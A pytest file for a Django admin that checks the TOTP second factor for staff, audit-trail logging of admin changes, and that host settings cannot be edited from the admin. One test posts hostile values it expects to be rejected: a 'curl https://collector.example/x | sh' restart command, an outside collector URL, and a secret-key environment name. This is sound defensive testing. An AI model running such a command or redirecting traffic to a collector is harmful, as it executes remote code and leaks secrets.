"""The Django admin inside the role model: staff confirm a code first, every change reaches the audit trail,
and where a host sends text, or what it runs, is the catalog's alone."""

from __future__ import annotations

from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django_otp.plugins.otp_totp.models import TOTPDevice

from casework.models import AuditEvent, Membership, Role
from llmops.models import Host
from tests.test_security import PASSWORD, _code

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff() -> User:
    return User.objects.create_superuser(username="admin1", password=PASSWORD)


@pytest.fixture
def admin_client(staff: User) -> Client:
    """A staff session signed in with the password and confirmed with a code from the staff user's app."""
    device = TOTPDevice.objects.create(user=staff, name="phone", confirmed=True)
    client = Client()
    assert client.post(reverse("login"), {"username": staff.username, "password": PASSWORD}).status_code == 302
    assert client.post(reverse("casework:totp_verify"), {"token": _code(device)}).status_code == 302
    return client


@pytest.fixture
def host() -> Host:
    return Host.objects.create(name="local", kind="ollama", url="http://127.0.0.1:11434", external=False)


def _trail(obj: Any) -> list[str]:
    events = AuditEvent.objects.filter(object_type=obj._meta.model_name, object_id=str(obj.pk)).order_by("id")
    return list(events.values_list("action", flat=True))


# --- the second factor -------------------------------------------------------------------------------


def test_staff_set_up_an_app_before_the_admin_opens_even_with_the_second_factor_off(staff: User, settings: Any) -> None:
    assert settings.AFFIANT_ATTORNEY_TOTP is False
    client = Client()
    assert client.post(reverse("login"), {"username": staff.username, "password": PASSWORD}).status_code == 302
    blocked = client.get(reverse("admin:index"))
    assert blocked.status_code == 302
    assert blocked["Location"].startswith(reverse("casework:totp_enrol"))
    assert client.get(blocked["Location"]).status_code == 200  # the set-up page, for a user with no firm
    assert client.get(reverse("admin:llmops_host_changelist")).status_code == 302


def test_staff_with_an_app_enter_its_code_before_the_admin_opens(staff: User) -> None:
    device = TOTPDevice.objects.create(user=staff, name="phone", confirmed=True)
    client = Client()
    client.post(reverse("admin:login"), {"username": staff.username, "password": PASSWORD})
    blocked = client.get(reverse("admin:index"))
    assert blocked.status_code == 302
    assert blocked["Location"].startswith(reverse("casework:totp_verify"))
    confirmed = client.post(reverse("casework:totp_verify"), {"token": _code(device), "next": reverse("admin:index")})
    assert confirmed["Location"] == reverse("admin:index")
    assert client.get(reverse("admin:index")).status_code == 200


# --- hosts: the catalog decides ------------------------------------------------------------------------


def _host_form(host: Host, **changes: str) -> dict[str, str]:
    """Every field of a host as the change form would post it (today's editable ones and the catalog's)."""
    fields = {
        "name": host.name, "kind": host.kind, "url": host.url, "external": "on" if host.external else "",
        "queue_name": host.queue_name, "api_key_env": host.api_key_env, "headers": "{}", "region": host.region,
        "memory_budget_mb": "", "dispatch": host.dispatch, "restart_command": host.restart_command,
        "enabled": "on" if host.enabled else "",
    }  # fmt: skip
    return {**fields, **changes}


def test_the_admin_cannot_change_where_a_host_sends_text_or_what_it_runs(admin_client: Client, host: Host) -> None:
    url = reverse("admin:llmops_host_change", args=[host.pk])
    page = admin_client.get(url).content.decode()
    assert "the catalog decides" in page
    attempt = _host_form(
        host,
        url="https://collector.example/v1",
        restart_command="curl https://collector.example/x | sh",
        api_key_env="DJANGO_SECRET_KEY",
        headers='{"X-Exfiltrate": "1"}',
        dispatch="grouped",  # editable: shows the form was accepted
    )
    assert admin_client.post(url, attempt).status_code == 302
    host.refresh_from_db()
    assert host.dispatch == "grouped"
    assert (host.url, host.external, host.restart_command, host.api_key_env, host.headers) == (
        "http://127.0.0.1:11434", False, "", "", {},
    )  # fmt: skip


def test_hosts_are_added_by_the_catalog_not_the_admin(admin_client: Client) -> None:
    form = {"name": "collector", "kind": "openai", "url": "https://collector.example", "dispatch": "fifo"}
    assert admin_client.post(reverse("admin:llmops_host_add"), {**form, "headers": "{}"}).status_code == 403
    assert not Host.objects.filter(name="collector").exists()


# --- the audit trail -------------------------------------------------------------------------------------


def test_a_host_changed_in_the_admin_is_in_the_trail_field_by_field(
    admin_client: Client, staff: User, host: Host
) -> None:
    url = reverse("admin:llmops_host_change", args=[host.pk])
    admin_client.post(url, _host_form(host, dispatch="grouped", enabled="", queue_name="gpu.big"))
    assert _trail(host) == ["admin_change:enabled", "admin_change:dispatch", "admin_change:queue_name"]
    event = AuditEvent.objects.filter(object_type="host").first()
    assert event is not None and event.actor == staff and event.case is None and event.ip == "127.0.0.1"


def test_memberships_added_and_removed_in_the_admin_are_in_the_trail(
    admin_client: Client, firm_people: dict[str, Any]
) -> None:
    newcomer = User.objects.create_user(username="newcomer", password=PASSWORD)
    form = {"user": newcomer.pk, "firm": firm_people["firm"].pk, "role": Role.PARALEGAL}
    assert admin_client.post(reverse("admin:casework_membership_add"), form).status_code == 302
    membership = Membership.objects.get(user=newcomer)
    assert _trail(membership) == ["admin_add"]

    delete = reverse("admin:casework_membership_delete", args=[membership.pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 302
    assert _trail(membership) == ["admin_add", "admin_delete"]


def test_a_password_reset_in_the_admin_is_in_the_trail_without_the_password(
    admin_client: Client, firm_people: dict[str, Any]
) -> None:
    paralegal = firm_people["paralegal"]
    new = "another-long-password-9"
    form = {"usable_password": "true", "password1": new, "password2": new}
    assert admin_client.post(reverse("admin:auth_user_password_change", args=[paralegal.pk]), form).status_code == 302
    actions = _trail(paralegal)
    assert "admin_change:password" in actions
    assert not any(new in action for action in actions)


def test_an_authenticator_app_reset_in_the_admin_is_in_the_trail(
    admin_client: Client, firm_people: dict[str, Any]
) -> None:
    device = TOTPDevice.objects.create(user=firm_people["attorney"], name="phone", confirmed=True)
    delete = reverse("admin:otp_totp_totpdevice_delete", args=[device.pk])
    assert admin_client.post(delete, {"post": "yes"}).status_code == 302
    assert _trail(device) == ["admin_delete"]
